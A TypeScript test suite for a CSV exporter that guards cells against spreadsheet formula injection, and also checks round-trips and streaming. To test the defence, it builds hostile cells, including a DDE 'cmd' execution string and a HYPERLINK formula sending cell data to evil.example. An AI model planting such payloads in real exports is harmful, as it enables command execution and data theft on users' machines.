import { execFileSync, spawnSync } from 'node:child_process';
import { PassThrough, Writable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardCell, unguardCell, writeCsv } from './csv.ts';

const begin = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Click")', 'SUM(1,2);3', '"quoted"'];
const before = ['', ' ', '   ', '\u00a0', '"', "'", "''", 'text;', 'text,', 'a|', 'one\n', 'two\r\n', 'x\t', ', "'];
/** 11 × 5 × 14 malicious cells. */
const hostile = begin.flatMap((sign) => bodies.flatMap((body) => before.map((lead) => lead + sign + body)));

async function fileOf(rows: string[][]): Promise<string> {
  const out = new PassThrough();
  const columns = [0, 1, 2].map((at) => ({ title: `Column ${at}`, cell: (row: string[]) => row[at] ?? '' }));
  const [file] = await Promise.all([buffer(out), writeCsv(toStream(rows), columns, out)]);
  return file.toString('utf8');
}

async function* toStream<T>(rows: Iterable<T>): AsyncGenerator<T> {
  for (const row of rows) yield await Promise.resolve(row);
}

/** Parses cell by cell. */
function readByCell(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, cell, end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/gy)) {
    rows.at(-1)!.push(cell!.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

const hasPython = spawnSync('python3', ['--version']).status === 0;
function readByPython(csv: string): string[][] {
  const script =
    'import csv,json,sys,io\nt=sys.stdin.buffer.read().decode()\nprint(json.dumps(list(csv.reader(io.StringIO(t,newline="")))))';
  const input = csv.replaceAll('\0', '\u0001');
  return JSON.parse(execFileSync('python3', ['-c', script], { input, encoding: 'utf8' })) as string[][];
}

/** Returns the cells a spreadsheet would see with any of these separators if it ignored quotes. */
const possibleCells = (csv: string) => csv.split(/[,;|\t\r\n]/).map((cell) => cell.replace(/^[\s"\u00a0\ufeff]+/, ''));

describe('a cell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1 954 555 0123', "'+1 954 555 0123"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['\0x', "'\0x"],
    [' =1', "' =1"],
    ['"=1', `'"=1`],
    ['Call me;=1+1', "Call me;'=1+1"],
    ['Hours:\n- Monday', "Hours:\n'- Monday"],
    ["'=1", "''=1"],
    ['＝1', "'＝1"],
    ['Coral Bay - Cooling', 'Coral Bay - Cooling'],
    ['dana@example.com', 'dana@example.com'],
    ['2026-11-21', '2026-11-21'],
    ["it's; fine", "it's; fine"],
    ['', ''],
  ])('writes %j as %j', (text, written) => {
    expect(guardCell(text)).toBe(written);
    expect(unguardCell(written)).toBe(text);
  });

  it('round-trips any content exactly', () => {
    const unit = fc.constantFrom(...begin, ...`,;|\n"' ax\u00a0`);
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit, maxLength: 20 }), fc.string({ unit: 'binary' })), (text) => {
        expect(unguardCell(guardCell(text))).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('a file', () => {
  const rows = hostile.map((cell, index) => [String(index), cell, hostile.at(-index - 1)!]);
  const titles = ['Column 0', 'Column 1', 'Column 2'];

  it('has a byte order mark, titles, quotes and CRLF', async () => {
    expect(await fileOf([['a', 'b "c"', '']])).toBe('\ufeff"Column 0","Column 1","Column 2"\r\n"a","b ""c""",""\r\n');
    expect(await fileOf([])).toBe('\ufeff"Column 0","Column 1","Column 2"\r\n');
  });

  it.each([
    ['cell by cell', readByCell, false],
    ['by Python', readByPython, true],
  ] as const)('matches the input when read %s', { tags: ['check-26'] }, async (how, read, needsPython) => {
    if (needsPython && !hasPython) return;
    expect(rows.length).toBeGreaterThan(500);
    const csv = (await fileOf(rows)).slice(1);
    const back = read(csv);
    const visible = (cell: string) => (needsPython ? cell.replaceAll('\0', '\u0001') : cell);
    expect(back[0]).toEqual(titles);
    expect(back.slice(1)).toEqual(rows.map((row) => row.map((cell) => visible(guardCell(cell)))));
    if (!needsPython) expect(back.slice(1).map((row) => row.map(unguardCell))).toEqual(rows);
  });

  it('has no cell that a spreadsheet would run, whichever separator it uses', { tags: ['check-26'] }, async () => {
    const cells = possibleCells(await fileOf(rows));
    const formulas = cells.filter((cell) => /^[=+\-@\0＝＋－＠]/.test(cell));
    expect(formulas).toEqual([]);
    // The same check finds them in a file without the guard.
    expect(possibleCells(hostile.join('\r\n')).some((cell) => cell.startsWith('='))).toBe(true);
  });

  it('requests rows only as they are read, and none once the reader is gone', async () => {
    let asked = 0;
    let isEnded = false;
    async function* endless() {
      try {
        for (;;) yield await Promise.resolve(['x'.repeat(1_000), String((asked += 1)), '']);
      } finally {
        isEnded = true;
      }
    }
    const taken = Promise.withResolvers<void>();
    const out = new Writable({ write: () => taken.resolve() });
    const writing = writeCsv(endless(), [{ title: 'x', cell: (row) => row[0]! }], out);
    await taken.promise;
    await new Promise((resolve) => setImmediate(resolve));
    const whileWaiting = asked;
    for (let turn = 0; turn < 200; turn += 1) await new Promise((resolve) => setImmediate(resolve));
    expect(asked - whileWaiting).toBeLessThan(200);
    expect(asked).toBeLessThan(300);
    out.destroy();
    await expect(writing).rejects.toThrow();
    expect(isEnded).toBe(true);
  });

  it('fails when the rows fail', async () => {
    async function* broken() {
      yield await Promise.resolve(['a']);
      throw new Error('no database');
    }
    const out = new PassThrough();
    out.on('error', () => undefined).resume();
    await expect(writeCsv(broken(), [{ title: 'x', cell: (row) => row[0]! }], out)).rejects.toThrow('no database');
    expect(out.destroyed).toBe(true);
  });
});
